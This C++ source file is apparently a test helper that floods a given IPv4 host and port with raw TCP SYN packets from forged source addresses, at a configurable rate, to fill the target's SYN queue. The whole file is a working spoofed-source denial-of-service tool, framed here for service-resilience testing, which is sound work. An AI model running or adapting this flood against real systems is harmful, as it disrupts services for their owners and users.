// A SYN flood for the "SYN flood during service" test: bare SYNs from forged sources.
//   syn_flood HOST PORT [--seconds S] [--rate N] [--seed X]   (HOST: numeric IPv4)
// Sends N SYNs a second (default 3000) for S seconds (default 20) to HOST:PORT, each from a
// random address in 198.18.0.0/15 (RFC 2544's benchmarking range, routed nowhere) and a random
// port, with a random ISN and an MSS option, as a flood tool does. Answers go to the gateway
// and die there, so the target's half-open connections never finish: its SYN queue fills.
// Needs a raw socket (root). Prints how many it sent; exits non-zero when it could send none.
#include <arpa/inet.h>
#include <chrono>
#include <cstdint>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <netinet/in.h>
#include <random>
#include <string>
#include <sys/socket.h>
#include <thread>
#include <unistd.h>

namespace {

using Clock = std::chrono::steady_clock;

uint16_t checksum(const uint8_t* data, std::size_t length, uint32_t sum = 0) {
    for (std::size_t index = 0; index + 1 < length; index += 2)
        sum += uint32_t(data[index]) << 8 | data[index + 1];
    if (length & 1)
        sum += uint32_t(data[length - 1]) << 8;
    while (sum >> 16)
        sum = (sum & 0xffff) + (sum >> 16);
    return static_cast<uint16_t>(~sum);
}

void put16(uint8_t* at, uint16_t value) {
    at[0] = static_cast<uint8_t>(value >> 8);
    at[1] = static_cast<uint8_t>(value);
}

void put32(uint8_t* at, uint32_t value) {
    put16(at, static_cast<uint16_t>(value >> 16));
    put16(at + 2, static_cast<uint16_t>(value));
}

// An IPv4 header and a 24-byte TCP SYN (an MSS option of 1460), checksums filled in.
std::size_t build_syn(uint8_t* packet, uint32_t source, uint32_t destination, uint16_t source_port,
                      uint16_t destination_port, uint32_t sequence) {
    constexpr std::size_t ip_length = 20, tcp_length = 24;
    std::memset(packet, 0, ip_length + tcp_length);
    packet[0] = 0x45;
    put16(packet + 2, ip_length + tcp_length);
    packet[8] = 64; // TTL
    packet[9] = IPPROTO_TCP;
    put32(packet + 12, source);
    put32(packet + 16, destination);
    put16(packet + 10, checksum(packet, ip_length));
    uint8_t* tcp = packet + ip_length;
    put16(tcp, source_port);
    put16(tcp + 2, destination_port);
    put32(tcp + 4, sequence);
    tcp[12] = (tcp_length / 4) << 4;
    tcp[13] = 0x02; // SYN
    put16(tcp + 14, 64240);
    tcp[20] = 2; // MSS
    tcp[21] = 4;
    put16(tcp + 22, 1460);
    uint32_t pseudo = (source >> 16) + (source & 0xffff) + (destination >> 16) +
                      (destination & 0xffff) + IPPROTO_TCP + tcp_length;
    put16(tcp + 16, checksum(tcp, tcp_length, pseudo));
    return ip_length + tcp_length;
}

} // namespace

int main(int argc, char** argv) {
    if (argc < 3) {
        std::fprintf(stderr, "usage: syn_flood HOST PORT [--seconds S] [--rate N] [--seed X]\n");
        return 2;
    }
    in_addr target{};
    if (inet_pton(AF_INET, argv[1], &target) != 1) {
        std::fprintf(stderr, "syn_flood: %s is not an IPv4 address\n", argv[1]);
        return 2;
    }
    auto port = static_cast<uint16_t>(std::atoi(argv[2]));
    double seconds = 20;
    long rate = 3000;
    unsigned seed = 1;
    for (int index = 3; index + 1 < argc; index += 2) {
        std::string option = argv[index];
        if (option == "--seconds")
            seconds = std::atof(argv[index + 1]);
        else if (option == "--rate")
            rate = std::atol(argv[index + 1]);
        else if (option == "--seed")
            seed = static_cast<unsigned>(std::atol(argv[index + 1]));
        else {
            std::fprintf(stderr, "syn_flood: unknown option %s\n", option.c_str());
            return 2;
        }
    }
    if (rate <= 0 || seconds <= 0) {
        std::fprintf(stderr, "syn_flood: --rate and --seconds must be positive\n");
        return 2;
    }
    int fd = socket(AF_INET, SOCK_RAW, IPPROTO_RAW); // IP_HDRINCL: we write the header
    if (fd < 0) {
        std::perror("syn_flood: raw socket");
        return 1;
    }
    std::mt19937 random(seed);
    sockaddr_in destination{};
    destination.sin_family = AF_INET;
    destination.sin_addr = target;
    uint32_t target_address = ntohl(target.s_addr);
    constexpr uint32_t forged_base = 0xc6120000; // 198.18.0.0/15

    auto start = Clock::now();
    auto end =
        start + std::chrono::duration_cast<Clock::duration>(std::chrono::duration<double>(seconds));
    auto interval = std::chrono::nanoseconds(1'000'000'000 / rate);
    auto next = start;
    long sent = 0, failed = 0;
    uint8_t packet[64];
    while (Clock::now() < end) {
        uint32_t source = forged_base + (random() & 0x1ffff);
        auto source_port = static_cast<uint16_t>(1024 + random() % 64000);
        std::size_t length = build_syn(packet, source, target_address, source_port, port, random());
        if (sendto(fd, packet, length, 0, reinterpret_cast<sockaddr*>(&destination),
                   sizeof destination) == static_cast<ssize_t>(length))
            ++sent;
        else
            ++failed;
        next += interval;
        auto now = Clock::now();
        if (next > now)
            std::this_thread::sleep_for(next - now);
        else if (now - next > std::chrono::milliseconds(100))
            next = now; // behind: do not burst to catch up
    }
    close(fd);
    double elapsed = std::chrono::duration<double>(Clock::now() - start).count();
    std::printf("syn_flood: %ld SYNs in %.1f s (%.0f/s), %ld failed\n", sent, elapsed,
                sent / elapsed, failed);
    return sent > 0 ? 0 : 1;
}
